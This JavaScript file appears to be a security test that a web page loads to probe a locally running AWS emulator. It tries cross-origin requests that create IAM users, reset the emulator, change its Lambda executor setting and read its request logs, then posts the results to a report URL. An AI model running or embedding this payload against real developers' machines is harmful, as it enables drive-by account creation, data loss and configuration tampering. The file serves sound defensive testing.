// What a web page can try against a local AWS: `target` is its address, `api` a deployed API, `report` gets the results.
// Each attempt creates a user of its own, so that the test sees which of them were carried out.
(async () => {
  const { target, tag, api, report } = Object.fromEntries(new URL(document.currentScript.src).searchParams);
  const base = target || location.origin;
  const signature = {
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': 'local/20260101/eu-central-1/iam/aws4_request',
    'X-Amz-Date': '20260101T000000Z',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': '0',
  };
  const call = (name) =>
    `${base}/?` +
    new URLSearchParams({ Action: 'CreateUser', Version: '2010-05-08', UserName: `${tag}-${name}`, ...signature });
  const read = async (path, options) => {
    const response = await fetch(base + path, options);
    return `${response.status} ${await response.text()}`;
  };
  const send = async (url, options) => (await fetch(url, { mode: 'no-cors', ...options })).type;
  const element = (kind, attributes) =>
    new Promise((resolve) => {
      const made = Object.assign(document.createElement(kind), attributes);
      made.onload = () => resolve('loaded');
      made.onerror = () => resolve('error');
      document.body.append(made);
    });
  const form = (url) => {
    const loaded = element('iframe', { name: 'answer' });
    const made = Object.assign(document.createElement('form'), { method: 'post', action: url, target: 'answer' });
    document.body.append(made);
    return loaded.then(() => {
      const answered = new Promise((resolve) => (document.getElementsByName('answer')[0].onload = resolve));
      made.submit();
      return answered;
    });
  };
  const socket = () =>
    new Promise((resolve) => {
      const made = new WebSocket(`${base.replace('http', 'ws')}/`);
      made.onopen = () => resolve('open');
      made.onerror = () => resolve('error');
    });
  const attempts = {
    fetch: () => send(call('fetch'), { method: 'POST', body: 'x' }),
    'fetch-no-referrer': () => send(call('fetch-no-referrer'), { referrerPolicy: 'no-referrer' }),
    image: () => element('img', { src: call('image') }),
    'image-no-referrer': () => element('img', { referrerPolicy: 'no-referrer', src: call('image-no-referrer') }),
    script: () => element('script', { src: call('script') }),
    stylesheet: () => element('link', { rel: 'stylesheet', href: call('stylesheet') }),
    frame: () => element('iframe', { src: call('frame') }),
    form: () => form(call('form')),
    websocket: socket,
    rehearsal: () => read('/_local_aws/rehearsal', { method: 'PUT', body: '{"latency": 0.001}' }),
    status: () => read('/_local_aws/status'),
    requests: () => read('/_local_aws/requests'),
    signed: () => read('/', { method: 'POST', body: 'Action=ListUsers&Version=2010-05-08', headers: {
      Authorization: 'AWS4-HMAC-SHA256 Credential=local/20260101/eu-central-1/iam/aws4_request, SignedHeaders=host, Signature=0',
      'Content-Type': 'application/x-www-form-urlencoded',
    } }),
    health: () => read('/_ministack/health'),
    reset: () => send(`${base}/_ministack/reset`, { method: 'POST' }),
    config: () => send(`${base}/_ministack/config`, { method: 'POST', body: '{"lambda_svc.LAMBDA_EXECUTOR": "local"}' }),
    api: () => read(api),
  };
  const results = { origin: self.origin };
  for (const [name, attempt] of Object.entries(attempts)) {
    results[name] = await attempt().catch((error) => `failed: ${error}`);
  }
  await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
})();
